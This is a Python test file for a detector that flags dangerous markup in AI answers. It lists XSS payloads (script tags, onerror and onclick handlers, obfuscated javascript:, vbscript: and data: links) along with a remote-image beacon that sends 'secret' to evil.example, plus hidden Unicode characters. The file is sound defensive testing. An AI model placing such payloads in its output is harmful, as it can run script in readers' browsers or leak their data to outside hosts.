"""What would do harm in an answer, and what only looks like it."""

from __future__ import annotations

import pytest

from corpus import Curriculum
from eval.measures.markup import dangers


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("<script>alert(1)</script>", ["tag"]),
        ("<ScRiPt/src=x>", ["tag"]),
        ("`<iframe src='//evil.example'>`", ["tag"]),
        ("<p onclick = 'x()'>Hi</p>", ["handler"]),
        ("<img/src=q/onerror=alert(1)>", ["tag", "handler"]),
        ("[a](javascript:alert(1))", ["link"]),
        ("[a]( <JavaScript:alert(1)>)", ["link"]),
        ("[a](java&#115;cript&colon;alert(1))", ["link"]),
        ("[a](javascript\\:alert(1))", ["link"]),
        ("[a](data:text/html;base64,PGI+)", ["link"]),
        ("[a]: vbscript:x\n\nSee [a].", ["link"]),
        ("<javascript:alert(1)>", ["link"]),
        ('<a href="java\nscript:alert(1)">a</a>', ["link"]),
        ("[![a](b)](javascript:alert(1))", ["link"]),
        ("![a](https://evil.example/?q=secret)", ["remote image"]),
        ("![a](//evil.example)", ["remote image"]),
        ("![a][pixel]\n\n[pixel]: https://evil.example", ["remote image"]),
        ("\\\\<script>", ["tag"]),  # an escaped backslash, then a tag
        ("safe\u200btext", ["hidden character"]),
        ("abc\u202edef", ["hidden character"]),
        ("abc\U000e0041", ["hidden character"]),
        ("\x1b[31mred", ["hidden character"]),
    ],
)
def test_danger_is_named(text, kinds):
    assert dangers(text) == kinds


@pytest.mark.parametrize(
    "text",
    [
        "LoRA freezes the weights. [1]\n\n- a list\t[2]\r\n",
        "&lt;script&gt; and \\<script> are shown as text.",
        "\\[a\\](javascript:alert(1))",
        "JavaScript: a language. Training data: text. Set on = 3 for a < b.",
        "[the paper](https://arxiv.org/abs/2305.14627) and <https://example.org>",
        "It works![1][2] ![figure](figure.png)",
        "<context>the passages</context> and a script",
        "naïve café, 東京, 🙂",
    ],
)
def test_harmless_text_raises_no_alarm(text):
    assert dangers(text) == []


def test_nothing_in_the_curriculum_raises_an_alarm(curriculum: Curriculum):
    assert {d.id: dangers(d.text) for d in curriculum.documents if dangers(d.text)} == {}
